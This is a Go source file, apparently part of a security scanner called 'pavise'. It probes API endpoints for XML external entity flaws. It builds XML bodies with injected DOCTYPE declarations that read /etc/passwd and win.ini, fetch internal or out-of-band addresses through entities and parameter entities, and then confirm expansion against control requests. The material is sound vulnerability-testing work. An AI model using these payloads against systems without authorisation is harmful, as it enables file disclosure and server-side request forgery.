package foreign

import (
	"bytes"
	"encoding/xml"
	"fmt"
	"maps"
	"slices"
	"strings"
	"unicode"

	"pavise.dev/pavise/internal/attack"
)

func isXMLType(name string) bool {
	name, _, _ = strings.Cut(strings.ToLower(name), ";")
	name = strings.TrimSpace(name)
	return name == "application/xml" || name == "text/xml" || strings.HasSuffix(name, "+xml")
}

// xmlBody is how a body is written as XML: the name of its root, and what its schema says of names and
// attributes (OpenAPI 3.1 §4.8.26).
type xmlBody struct {
	root   string
	schema map[string]any
}

// xmlOf writes a value as an XML document, as plainly as it goes.
func (w *world) xmlOf(x xmlBody, v any) []byte {
	var b bytes.Buffer
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>`)
	w.writeXML(&b, x.root, v, x.schema, 0)
	return b.Bytes()
}

func (w *world) writeXML(b *bytes.Buffer, name string, v any, s map[string]any, depth int) {
	s = w.resolve(s)
	if said := text(w.resolve(s["xml"])["name"]); said != "" {
		name = said
	}
	if name = elementName(name); depth > maxDepth {
		return
	}
	switch v := v.(type) {
	case map[string]any:
		properties, _ := w.properties(s)
		var attributes, below bytes.Buffer
		for _, property := range slices.Sorted(maps.Keys(v)) {
			p := properties[property]
			if w.resolve(p["xml"])["attribute"] == true {
				fmt.Fprintf(&attributes, ` %s="%s"`, elementName(property), escapedXML(fmt.Sprint(v[property])))
				continue
			}
			w.writeXML(&below, property, v[property], p, depth+1)
		}
		fmt.Fprintf(b, "<%s%s>%s</%s>", name, attributes.String(), below.String(), name)
	case []any:
		for _, one := range v {
			w.writeXML(b, name, one, w.resolve(s["items"]), depth+1)
		}
	case nil:
	default:
		fmt.Fprintf(b, "<%s>%s</%s>", name, escapedXML(fmt.Sprint(v)), name)
	}
}

func escapedXML(text string) string {
	var b bytes.Buffer
	_ = xml.EscapeText(&b, []byte(text)) // into memory
	return b.String()
}

// elementName is a name that an element can have.
func elementName(name string) string {
	name = strings.Map(func(r rune) rune {
		if unicode.IsLetter(r) || unicode.IsDigit(r) || r == '_' || r == '-' || r == '.' {
			return r
		}
		return '_'
	}, name)
	if name == "" || !unicode.IsLetter(rune(name[0])) && name[0] != '_' {
		return "_" + name
	}
	return name
}

// entities sends XML that declares what it holds: also where only JSON is described, since frameworks
// read both.
func (p *planner) entities() {
	p.withGood("xxe", func(o *operation) bool {
		return o.method != "DELETE" && o.body != nil && (isXMLType(o.media) || o.xml.root != "" || isJSONType(o.media))
	}, (*try).declares)
}

// document is a good request in XML, of which some texts can be chosen.
type xmlDraft struct {
	d     *draft
	slots []slot
}

// declares looks for entities that are expanded: of the document itself, of the machine's files, of
// addresses.
func (t *try) declares(o *operation, g *good) error {
	x, err := t.asXML(o, g)
	if err != nil || x == nil {
		return err
	}
	var expanded *attack.Answer
	for _, where := range x.placements() {
		a, found, err := t.declaresAt(o, x, where)
		if found || err != nil {
			return err
		}
		if expanded == nil {
			expanded = a
		}
	}
	if expanded != nil {
		t.s.Under(ruleOf("xml-entities"), func(s *attack.Session) {
			s.Found(o.String(), expanded, "it answers %d with what two entities of the document stand for", expanded.Status)
		})
	}
	return nil
}

// asXML is the good request in XML; nil: the operation does not read that. One that takes XML that is
// none does not, either.
func (t *try) asXML(o *operation, g *good) (*xmlDraft, error) {
	body, isObject := g.d.body.(map[string]any)
	if !isObject {
		return nil, attack.ErrNotHere
	}
	media := []string{"application/xml", "text/xml"}
	switch {
	case isXMLType(o.media):
		media = []string{o.media}
	case o.xml.root != "":
		media = []string{o.xmlMedia}
	}
	root := o.xml
	if root.root == "" {
		root = xmlBody{"request", o.body}
	}
	for _, name := range media {
		d := g.d.clone()
		d.media, d.text, d.xml = name, nil, &root
		d.body = body
		a, err := t.send(t.w.caller(), d)
		if err != nil {
			return nil, err
		}
		if !ok(a) {
			continue
		}
		broken := d.clone()
		broken.text = []byte("<pavise")
		if a, err = t.send(t.w.caller(), broken); err != nil || ok(a) {
			return nil, err
		}
		d = d.clone()
		slots := fields(d.body, nil)
		return &xmlDraft{d, slots[:min(len(slots), maxXMLSlots)]}, nil
	}
	return nil, nil
}

// maxXMLSlots is how many texts of one document are tried.
const maxXMLSlots = 8

// placements are where an entity is named: in all texts at once, and, where only some may be free, in
// each.
func (x *xmlDraft) placements() (all [][]slot) {
	if len(x.slots) > 0 {
		all = append(all, x.slots)
	}
	if len(x.slots) > 1 {
		for i := range x.slots {
			all = append(all, x.slots[i:i+1])
		}
	}
	return all
}

// with sends the document with a declaration, and with a text that refers to it in some places.
func (t *try) withEntity(x *xmlDraft, where []slot, declaration, refers string) (*attack.Answer, error) {
	d := x.d.clone()
	mark := nonsense()
	for _, s := range where {
		s.set(d, mark)
	}
	document := t.w.xmlOf(*d.xml, d.body)
	head, rest, _ := bytes.Cut(document, []byte("?>"))
	document = slices.Concat(head, []byte("?>"), []byte(declaration), rest)
	d.text = bytes.ReplaceAll(document, []byte(mark), []byte(refers))
	return t.send(t.w.caller(), d)
}

// dtd declares what &pavise; stands for.
func (x *xmlDraft) dtd(is string) string {
	root := elementName(x.d.xml.root)
	return "<!DOCTYPE " + root + " [<!ENTITY pavise " + is + ">]>"
}

// declaresAt tries each kind of entity in some places. expanded is the answer that holds what entities
// of the document itself stand for.
func (t *try) declaresAt(o *operation, x *xmlDraft, where []slot) (expanded *attack.Answer, found bool, err error) {
	for _, file := range []string{"file:///etc/passwd", "file:///c:/windows/win.ini"} {
		if found, err = t.readsFile(o, x, where, file); found || err != nil {
			return nil, found, err
		}
	}
	if found, err = t.readsAddress(o, x, where); found || err != nil {
		return nil, found, err
	}
	for range 2 { // the text that comes back is nowhere in the document
		one, other := nonsense(), nonsense()
		declaration := strings.Replace(x.dtd(`"`+one+`"`), "]>", `<!ENTITY both "&pavise;`+other+`">]>`, 1)
		a, err := t.withEntity(x, where, declaration, "&both;")
		if err != nil || !strings.Contains(string(a.Body), one+other) {
			return nil, false, err
		}
		expanded = a
	}
	return expanded, false, nil
}

func (t *try) readsFile(o *operation, x *xmlDraft, where []slot, file string) (bool, error) {
	forms := t.w.forms.files
	a, err := t.withEntity(x, where, x.dtd(`SYSTEM "`+file+`"`), "&pavise;")
	if err != nil || !forms.Match(beginning(a)) {
		return false, err
	}
	control, err := t.withEntity(x, where, x.dtd(`SYSTEM "`+file+nonsense()+`"`), "&pavise;")
	if err != nil || forms.Match(beginning(control)) {
		return false, err
	}
	t.found(o, a, "it answers %d with the machine's file %s, which an entity of the document names", a.Status, file)
	return true, nil
}

// readsAddress names a page of the target's own, an address where nobody listens, and one of ours, if
// there is one.
func (t *try) readsAddress(o *operation, x *xmlDraft, where []slot) (bool, error) {
	base := t.s.Prober().Scope().Base()
	own, page, err := t.pageOfItsOwn(o)
	if err != nil {
		return false, err
	}
	if page != "" && !strings.ContainsAny(page, "<&") {
		a, err := t.withEntity(x, where, x.dtd(`SYSTEM "`+base.Scheme+"://"+base.Host+own+`"`), "&pavise;")
		if err != nil {
			return false, err
		}
		control, err := t.withEntity(x, where, x.dtd(`SYSTEM "`+base.Scheme+"://"+base.Host+"/"+nonsense()+`"`), "&pavise;")
		if err != nil {
			return false, err
		}
		if page = plainly(page); strings.Contains(plainly(string(a.Body)), page) && !strings.Contains(plainly(string(control.Body)), page) {
			t.found(o, a, "it answers %d with what stands at %s, which an entity of the document names", a.Status, own)
			return true, nil
		}
	}
	for kind, declaration := range map[string]func(address string) (dtd, refers string){
		"an entity": func(address string) (string, string) { return x.dtd(`SYSTEM "` + address + `"`), "&pavise;" },
		"a parameter entity": func(address string) (string, string) {
			return "<!DOCTYPE " + elementName(x.d.xml.root) + ` [<!ENTITY % pavise SYSTEM "` + address + `"> %pavise;]>`, "pavise"
		},
		"its document type": func(address string) (string, string) {
			return "<!DOCTYPE " + elementName(x.d.xml.root) + ` SYSTEM "` + address + `">`, "pavise"
		},
	} {
		send := func(address string) (*attack.Answer, error) {
			dtd, refers := declaration(address)
			return t.withEntity(x, where, dtd, refers)
		}
		if found, err := t.connectsTo(o, "", kind+" of the document", "pavise-attack:no-address", send); found || err != nil {
			return found, err
		}
	}
	return false, nil
}
